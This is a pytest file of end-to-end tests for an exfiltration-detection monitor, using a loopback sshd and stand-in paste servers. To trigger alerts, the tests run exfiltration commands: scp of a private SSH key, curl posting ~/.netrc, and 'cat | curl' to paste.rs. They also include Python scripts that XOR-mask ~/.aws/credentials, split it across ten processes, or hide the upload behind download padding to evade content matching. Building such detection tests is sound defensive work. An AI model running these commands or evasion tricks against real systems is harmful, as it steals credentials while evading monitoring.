"""The engine's volume and protocol rules with real tools: an SSH session's handshake is
overhead, a key that authenticates (ssh -i, scp -i) is use, and scp of the key itself is a leak
(a flow with no name: T1567 with destination.ip). A local sshd on a loopback port stands in for
the remote host."""

import os
import shutil
import subprocess
import time

import pytest

from harness import assert_alert, assert_silent, get, is_alert, wait_until

SSH_PORT = int(os.environ.get("E2E_SSH_PORT", "48022"))
SSHD = shutil.which("sshd") or "/usr/sbin/sshd"


@pytest.fixture
def sshd(tmp_path, fake_home):
    """sshd on 127.0.0.1:SSH_PORT that lets root in with a deploy key made here (generated
    before the monitor starts, so its ssh-keygen is not watched). Yields (key, dropbox)."""
    if not os.path.exists(SSHD):
        pytest.fail("sshd not found: apt-get install openssh-server")
    work = tmp_path / "sshd"
    work.mkdir()
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(work / "host_key")], check=True)
    key = fake_home.path / ".ssh" / "id_deploy"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(key)], check=True)
    # The key that is stolen in the attack: RSA 3072, about 2.6 KiB.
    subprocess.run(["ssh-keygen", "-q", "-t", "rsa", "-b", "3072", "-N", "", "-f",
                    str(fake_home.path / ".ssh" / "id_rsa")], check=True)
    shutil.copy(f"{key}.pub", work / "authorized_keys")
    dropbox = tmp_path / "dropbox"
    dropbox.mkdir()
    config = work / "sshd_config"
    config.write_text(
        f"ListenAddress 127.0.0.1:{SSH_PORT}\nHostKey {work / 'host_key'}\n"
        f"AuthorizedKeysFile {work / 'authorized_keys'}\nPermitRootLogin prohibit-password\n"
        "PasswordAuthentication no\nKbdInteractiveAuthentication no\nUsePAM no\nStrictModes no\n"
        "PidFile none\nSubsystem sftp internal-sftp\n")
    os.makedirs("/run/sshd", exist_ok=True)
    proc = subprocess.Popen([SSHD, "-D", "-e", "-f", str(config)], stdout=subprocess.DEVNULL,
                            stderr=open(work / "sshd.log", "w"))
    try:
        def listening():
            out = subprocess.run(["ss", "-Hltn", f"sport = :{SSH_PORT}"], capture_output=True, text=True)
            return bool(out.stdout.strip())
        wait_until(listening, 10, f"sshd listening on 127.0.0.1:{SSH_PORT}")
        yield key, dropbox
    finally:
        proc.terminate()
        proc.wait(timeout=10)


def ssh_options(key):
    return ["-i", str(key), "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
            "-o", "BatchMode=yes", "-o", "LogLevel=ERROR"]


def run(argv, fake_home):
    result = subprocess.run(argv, env=fake_home.env(), capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, f"{argv[0]} exited {result.returncode}: {result.stderr}"


def test_ssh_and_scp_with_a_deploy_key_are_silent(sshd, monitor, fake_home, tmp_path):
    key, dropbox = sshd
    artifact = tmp_path / "artifact.tar"
    artifact.write_bytes(os.urandom(200_000))
    run(["ssh", *ssh_options(key), "-p", str(SSH_PORT), "root@127.0.0.1", "true"], fake_home)
    run(["scp", *ssh_options(key), "-P", str(SSH_PORT), str(artifact), f"root@127.0.0.1:{dropbox}/"],
        fake_home)
    assert (dropbox / "artifact.tar").stat().st_size == 200_000
    time.sleep(0.2)
    monitor.stop()
    flows = [r for r in monitor.records() if get(r, "event.action") == "flow-summary"
             and get(r, "destination.port") == SSH_PORT]
    assert flows, "the monitor saw no flow to sshd"
    # Other tests on this host run their own traffic: what this one did went to SSH_PORT only.
    assert_silent([r for r in monitor.records() if get(r, "destination.port") == SSH_PORT])


def test_scp_of_the_key_itself_alerts_with_the_address(sshd, monitor, fake_home):
    key, dropbox = sshd
    stolen = fake_home.path / ".ssh" / "id_rsa"
    run(["scp", *ssh_options(key), "-P", str(SSH_PORT), str(stolen), f"root@127.0.0.1:{dropbox}/"], fake_home)
    assert (dropbox / "id_rsa").exists()
    monitor.poll_for(lambda r: is_alert(r), 20)
    monitor.stop()
    found = assert_alert([r for r in monitor.records() if get(r, "destination.port") == SSH_PORT], "T1567")
    alert = found[-1]
    assert get(alert, "destination.ip") == "127.0.0.1"
    assert "id_rsa" in get(alert, "event.reason")


def test_dns_queries_are_never_uploads(monitor, standin, resolver, fake_home, tmp_path):
    """curl resolves the paste site through a resolver, then posts ~/.netrc: the post alerts
    (T1567.003); curl's query to the resolver, after the same read, is not an upload."""
    from harness.config import DNS_ADDRESS, DNS_NAME, HTTP_PORT, RESOLVER_ADDRESS
    view = resolver.view(tmp_path / "dnsview")
    result = view.run(["curl", "-s", "-o", "/dev/null", "--data-binary", f"@{fake_home.path / '.netrc'}",
                       f"http://{DNS_NAME}:{HTTP_PORT}/"], env=fake_home.env())
    assert result.returncode == 0, result.stderr
    standin.wait_for_request(lambda r: r.get("listener") == f"http:{DNS_ADDRESS}:{HTTP_PORT}")
    monitor.wait_for(lambda r: get(r, "event.action") == "flow-summary"
                     and get(r, "destination.port") == 53 and get(r, "process.name") == "curl", 20,
                     "curl's DNS query in the telemetry")
    monitor.poll_for(lambda r: is_alert(r) and get(r, "destination.domain") == DNS_NAME, 20)
    monitor.stop()
    mine = [r for r in monitor.records() if is_alert(r) and get(r, "process.name") == "curl"]
    assert_alert(mine, "T1567.003")
    dns = [r for r in mine if get(r, "destination.port") == 53 or get(r, "destination.ip") == RESOLVER_ADDRESS]
    assert not dns, f"a DNS query scored as an upload: {[get(r, 'event.reason') for r in dns]}"


def test_reason_names_the_real_reader(monitor, standin, fake_home):
    """`timeout 5 cat KEY | curl ...`: the reason names cat (the reader), not timeout."""
    from harness.config import HTTPS_PORT
    cmd = (f"timeout 5 cat {fake_home.path / '.netrc'} | curl -sk --resolve paste.rs:{HTTPS_PORT}:127.0.0.1 "
           f"-o /dev/null --data-binary @- https://paste.rs:{HTTPS_PORT}/")
    result = subprocess.run(["bash", "-c", cmd], env=fake_home.env(), capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    monitor.poll_for(lambda r: is_alert(r) and get(r, "destination.domain") == "paste.rs", 20)
    monitor.stop()
    found = assert_alert([r for r in monitor.records() if get(r, "destination.domain") == "paste.rs"], "T1567.003")
    reason = get(found[-1], "event.reason")
    assert reason.startswith("curl uploaded"), reason
    assert "after cat read ~/.netrc" in reason, reason


# The parts are masked (XOR) so that no token of the file leaves whole: content matching sees
# nothing, and the volume signals must decide.
SEND_PART = """import socket, ssl, sys
data = bytes(b ^ 0x5a for b in open(sys.argv[1], "rb").read())
c = ssl._create_unverified_context()
s = c.wrap_socket(socket.create_connection(("127.0.0.1", int(sys.argv[2]))), server_hostname="paste.rs")
s.sendall(b"POST / HTTP/1.1\\r\\nHost: paste.rs\\r\\nContent-Length: %d\\r\\nConnection: close\\r\\n\\r\\n"
          % len(data) + data)
s.recv(100)
"""


@pytest.mark.parametrize("parts_sent, expect", [(10, "alert"), (1, "silent")])
def test_trickle_over_child_processes_adds_up(parts_sent, expect, monitor, standin, fake_home, tmp_path):
    """`split` cuts ~/.aws/credentials into ten parts and a script posts each from its own
    process and connection, masked so no token leaves whole: no single post covers the file, all
    of them do (T1567.003). The twin posts one part: not the file's worth, silent."""
    from harness.config import HTTPS_PORT
    script = tmp_path / "send_part.py"
    script.write_text(SEND_PART)
    parts = tmp_path / "parts"
    parts.mkdir()
    credentials = fake_home.path / ".aws" / "credentials"
    size = credentials.stat().st_size
    cmd = (f"split -n 10 {credentials} {parts}/p; "
           f"for f in $(ls {parts}/p* | head -n {parts_sent}); do python3 {script} $f {HTTPS_PORT}; done")
    result = subprocess.run(["bash", "-c", cmd], env=fake_home.env(), capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    if expect == "alert":
        monitor.poll_for(lambda r: is_alert(r) and get(r, "destination.domain") == "paste.rs", 20)
    else:
        monitor.wait_for(lambda r: get(r, "event.action") == "flow-summary"
                         and get(r, "destination.domain") == "paste.rs"
                         and get(r, "process.name", "").startswith("python"), 20, "the post's flow")
        time.sleep(0.5)
    monitor.stop()
    mine = [r for r in monitor.records() if get(r, "destination.domain") == "paste.rs"
            and str(get(r, "process.name", "")).startswith("python")]
    if expect == "alert":
        found = assert_alert(mine, "T1567.003")
        volume = [s for a in found for s in (get(a, "exfilwatch.signals") or []) if s.get("name") == "data-volume"]
        assert volume, f"no data-volume signal for the {size}-byte file"
        assert any("connections" in s.get("evidence", "") for s in volume), volume
    else:
        assert_silent(mine)


POST_THEN_DOWNLOAD = """import socket, ssl, sys
data = bytes(b ^ 0x5a for b in open(sys.argv[1], "rb").read()) if sys.argv[1] != "-" else b""
if len(sys.argv) > 3:
    open(sys.argv[3], "rb").read()  # read, not sent
c = ssl._create_unverified_context()
s = c.wrap_socket(socket.create_connection(("127.0.0.1", int(sys.argv[2]))), server_hostname="paste.rs")
out = b""
if data:
    out += b"POST / HTTP/1.1\\r\\nHost: paste.rs\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(data) + data
out += b"GET /?size=2000000 HTTP/1.1\\r\\nHost: paste.rs\\r\\nConnection: close\\r\\n\\r\\n"
s.sendall(out)
while s.recv(65536):
    pass
"""


@pytest.mark.parametrize("post, expect", [(True, "alert"), (False, "silent")])
def test_download_padding_does_not_cancel_an_upload(post, expect, monitor, standin, fake_home, tmp_path):
    """A script posts ~/.aws/credentials (masked: no token whole, so the volume decides) and
    downloads 2 MB on the same connection: receiving a lot does not offset what was sent
    (T1567.003). Its twin reads the file and only downloads."""
    from harness.config import HTTPS_PORT
    script = tmp_path / "pad.py"
    script.write_text(POST_THEN_DOWNLOAD)
    credentials = fake_home.path / ".aws" / "credentials"
    # The twin reads the credentials itself too (same process), then only downloads.
    cmd = (f"python3 {script} {credentials} {HTTPS_PORT}" if post
           else f"python3 {script} - {HTTPS_PORT} {credentials}")
    result = subprocess.run(["bash", "-c", cmd], env=fake_home.env(), capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    def big_flow(r):
        return (get(r, "event.action") == "flow-summary" and get(r, "destination.domain") == "paste.rs"
                and (get(r, "destination.bytes") or 0) >= 2_000_000)
    monitor.wait_for(big_flow, 20, "the 2 MB download's flow")
    if expect == "alert":
        monitor.poll_for(lambda r: is_alert(r) and get(r, "destination.domain") == "paste.rs", 20)
    monitor.stop()
    mine = [r for r in monitor.records() if get(r, "destination.domain") == "paste.rs"
            and str(get(r, "process.name", "")).startswith("python")]
    if expect == "alert":
        found = assert_alert(mine, "T1567.003")
        names = {s.get("name") for a in found for s in (get(a, "exfilwatch.signals") or [])}
        assert "data-volume" in names and "download-shaped" not in names, names
    else:
        assert_silent(mine)
